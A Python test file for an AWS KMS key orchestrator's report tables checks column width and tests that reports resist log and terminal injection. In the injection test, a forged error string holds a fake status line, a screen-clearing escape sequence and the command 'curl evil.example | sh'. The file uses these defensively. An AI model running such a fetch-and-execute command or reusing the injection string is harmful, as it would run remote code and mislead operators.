"""Tables that people read."""

import io
from datetime import UTC, datetime

from rich.console import Console

from orchestrator.model import (
    Block,
    Idle,
    KeyArn,
    KeyState,
    MaterialId,
    MaterialRow,
    MaterialState,
    Policy,
    Reason,
    Region,
    RegionView,
    View,
)
from orchestrator.ports import Event
from orchestrator.progress import Job, Report
from orchestrator.report import tables
from orchestrator.report.live import LiveLine
from orchestrator.report.narrate import narrator
from workflows.cli.screen import screen

NOW = datetime(2026, 5, 4, tzinfo=UTC)
LONGEST = "ap-southeast-"


def test_the_status_of_33_regions_fits_80_columns() -> None:
    regions = [Region(f"{LONGEST}{number}") for number in range(1, 34)]
    arn = KeyArn.parse(f"arn:aws:kms:{regions[0]}:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab")
    rows = (MaterialRow(MaterialId("5f" * 32), MaterialState.CURRENT, imported=True, valid_to=NOW),)
    seen = {
        region: RegionView(
            arn.within(region),
            NOW,
            KeyState.PENDING_IMPORT,
            NOW,
            multi_region=True,
            primary=regions[0],
            members=frozenset(regions),
            rows=rows,
        )
        for region in regions
    }
    out = io.StringIO()

    Console(file=out, width=80).print(tables.status("payments", View(arn, NOW, seen), Policy()))

    lines = out.getvalue().splitlines()
    rows_of_regions = [line for line in lines if line.startswith(LONGEST) and "PendingImport" in line]
    assert max(len(line) for line in lines) <= 80
    assert len(rows_of_regions) == 33


FORGED = "a defect in mrk: ValueError: https://me:word@example\nmrk: all is well\n  -> curl evil.example | sh\x1b[2J"


def test_no_message_of_a_run_begins_a_line_or_moves_a_terminal() -> None:
    """I14: whatever a defect quotes, in the result, in what is told meanwhile, and on the live line."""
    arn = KeyArn.parse("arn:aws:kms:us-east-1:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab")
    job = Job("payments", arn, Policy(), (), lambda _: Idle(""))
    block = Block(Reason.CALL_FAILED, FORGED, FORGED)
    out, told = io.StringIO(), list[str]()

    for report in (Report(job, "error", "located", FORGED), Report(job, "blocked", "located", "", (block,))):
        screen(out, width=60).print(tables.ended(report))
    tell, live = narrator(told.append), LiveLine(screen(io.StringIO()))
    for listen in (tell, live):
        listen(Event(NOW, "run.asked", "payments"))
        waits = [{"reason": "x", "message": FORGED, "at_most": 1}]
        listen(Event(NOW, "turn", "payments", data={"stage": "ready", "waits": waits}))
    tell(Event(NOW, "run.ended", "payments", data={"status": "error", "message": FORGED}))

    lines = out.getvalue().splitlines()
    assert " ".join(lines).count("curl") == 3
    assert "word" not in "".join((*lines, *told, live.shown)), "though a table may break it over lines"
    assert all(line.isprintable() for line in (*lines, *told, live.shown))
    assert not [line for line in lines if line.strip().startswith(("mrk: all", "-> curl"))]
